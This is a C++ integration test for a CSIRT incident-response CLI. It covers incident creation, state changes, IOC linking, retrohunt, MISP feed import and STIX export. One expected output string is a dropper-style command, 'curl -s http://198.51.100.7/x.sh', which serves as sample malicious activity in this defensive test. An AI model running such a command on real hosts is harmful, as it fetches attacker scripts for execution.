// `vigie incident | ioc | retrohunt` against a whole collector (Service, SQLite)
// on loopback: a coordinator's session from the command line, the CLI and
// the CSIRT API checked against each other (csirt_command_test.cpp checks the
// requests in detail against a stand-in).
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <string>

#include "run_command.h"
#include "storage/sqlite_store.h"
#include "support/sample_batch.h"
#include "vigie/collector/service.h"

namespace vigie::cli {
namespace {

using nlohmann::json;
using testing::run_command;

TEST(CsirtFlow, ACoordinatorWorksAnIncidentFromTheCommandLine) {
  collector::testing::TempDir dir;
  collector::Config config = collector::default_config();
  config.port = 0;
  config.database_path = (dir.path() / "collector.db").string();
  config.api.anonymous = collector::Principal{collector::Role::kAdmin, "anonymous", {}};
  config.csirt.site = "GRIF";
  collector::Service service(config);
  service.start();
  {  // node1 ran curl for alice in job 42 and connected to 198.51.100.7.
    collector::SqliteStore store(config.database_path);
    ASSERT_EQ(store.store_batch(collector::testing::sample_batch(
                                    1, "node1", protocol::wall_clock_ns() - 60'000'000'000ull),
                                1)
                  .status,
              collector::StoreOutcome::Status::kStored);
  }
  const std::string vigie = std::string(VIGIE_CLI_PATH) + " --collector http://127.0.0.1:" +
                            std::to_string(service.port()) + " ";

  auto created = run_command(vigie + "--json incident create --title 'Curl dropper on node1' "
                                     "--severity high --tlp amber --alert 1");
  ASSERT_EQ(created.exit_code, 0) << created.output;
  const json incident = json::parse(created.output);
  const std::string id = incident["id"];
  EXPECT_EQ(id.rfind("grif-", 0), 0u);

  auto listed = run_command(vigie + "incident list");
  ASSERT_EQ(listed.exit_code, 0) << listed.output;
  EXPECT_NE(listed.output.find(id), std::string::npos) << listed.output;
  EXPECT_NE(listed.output.find("Report to EGI CSIRT"), std::string::npos) << listed.output;

  auto moved = run_command(vigie + "incident state " + id + " reported --reason 'mailed abuse'");
  ASSERT_EQ(moved.exit_code, 0) << moved.output;
  auto refused = run_command(vigie + "incident state " + id + " closed --reason 'too early'");
  EXPECT_EQ(refused.exit_code, 1) << refused.output;
  EXPECT_NE(refused.output.find("cannot move"), std::string::npos) << refused.output;

  auto noted = run_command(vigie + "incident note " + id + " --kind egi_request --text 'logs?'");
  ASSERT_EQ(noted.exit_code, 0) << noted.output;

  auto linked = run_command(vigie + "incident link " + id + " --type ip --value 198.51.100.7");
  ASSERT_EQ(linked.exit_code, 0) << linked.output;
  auto indicators = run_command(vigie + "--json ioc list --type ip --value 198.51.100.7");
  ASSERT_EQ(indicators.exit_code, 0) << indicators.output;
  const std::string uuid = json::parse(indicators.output)["indicators"][0]["uuid"];
  auto hunted = run_command(vigie + "retrohunt " + uuid + " --since 7d --wait");
  ASSERT_EQ(hunted.exit_code, 0) << hunted.output;
  auto sightings = run_command(vigie + "ioc sightings " + uuid);
  ASSERT_EQ(sightings.exit_code, 0) << sightings.output;
  EXPECT_NE(sightings.output.find("node1"), std::string::npos) << sightings.output;
  EXPECT_NE(sightings.output.find("42"), std::string::npos) << sightings.output;
  EXPECT_NE(sightings.output.find("retrohunt"), std::string::npos) << sightings.output;

  auto shown = run_command(vigie + "incident show " + id);
  ASSERT_EQ(shown.exit_code, 0) << shown.output;
  EXPECT_NE(shown.output.find("suspected → reported: mailed abuse"), std::string::npos)
      << shown.output;
  EXPECT_NE(shown.output.find("curl -s http://198.51.100.7/x.sh"), std::string::npos)
      << shown.output;
  EXPECT_NE(shown.output.find("Answer the EGI CSIRT request"), std::string::npos) << shown.output;

  // A MISP event: its indicator keeps the event's TLP.
  const auto misp_file = dir.path() / "event.json";
  const std::string event = R"({"Event": {"uuid": "5e0f1c2a-0000-4000-8000-0000000000e9",
      "timestamp": "1700000000", "Tag": [{"name": "tlp:green"}],
      "Attribute": [{"type": "hostname", "value": "pool.example", "to_ids": true},
                    {"type": "link", "value": "https://x.example"}]}})";
  std::ofstream(misp_file) << event;
  auto imported = run_command(vigie + "csirt import " + misp_file.string());
  ASSERT_EQ(imported.exit_code, 0) << imported.output;
  EXPECT_NE(imported.output.find("1 added 0 updated 0 revoked 0 skipped 1 unsupported"),
            std::string::npos)
      << imported.output;
  auto green = run_command(vigie + "--json ioc list --type domain --value pool.example");
  ASSERT_EQ(green.exit_code, 0) << green.output;
  EXPECT_EQ(json::parse(green.output)["indicators"][0]["tlp"], "green");

  // A MISP feed directory: the event already imported at its timestamp is
  // not fetched again; a new one is.
  const auto feed = dir.path() / "feed";
  std::filesystem::create_directories(feed);
  std::ofstream(feed / "5e0f1c2a-0000-4000-8000-0000000000e9.json") << event;
  std::ofstream(feed / "5e0f1c2a-0000-4000-8000-0000000000ea.json")
      << R"({"Event": {"uuid": "5e0f1c2a-0000-4000-8000-0000000000ea", "timestamp": "1700000001",
             "Attribute": [{"type": "sha256", "value": ")" << std::string(64, 'd') << R"("}]}})";
  std::ofstream(feed / "manifest.json") << R"({
      "5e0f1c2a-0000-4000-8000-0000000000e9": {"info": "a", "timestamp": 1700000000},
      "5e0f1c2a-0000-4000-8000-0000000000ea": {"info": "b", "timestamp": 1700000001}})";
  auto fed = run_command(vigie + "csirt import " + feed.string());
  ASSERT_EQ(fed.exit_code, 0) << fed.output;
  EXPECT_NE(fed.output.find("1 event(s) imported, 1 unchanged"), std::string::npos) << fed.output;
  fed = run_command(vigie + "csirt import " + feed.string());
  EXPECT_NE(fed.output.find("0 event(s) imported, 2 unchanged"), std::string::npos) << fed.output;

  // The incident out, as a STIX 2.1 bundle in a file.
  const auto bundle = dir.path() / "incident.stix.json";
  auto exported =
      run_command(vigie + "incident export " + id + " --format stix -o " + bundle.string());
  ASSERT_EQ(exported.exit_code, 0) << exported.output;
  std::ifstream in(bundle);
  EXPECT_EQ(json::parse(in)["type"], "bundle");

  auto scope = run_command(vigie + "incident scope " + id);
  ASSERT_EQ(scope.exit_code, 0) << scope.output;
  EXPECT_NE(scope.output.find("alice"), std::string::npos) << scope.output;
  EXPECT_NE(scope.output.find("42"), std::string::npos) << scope.output;
}

}  // namespace
}  // namespace vigie::cli
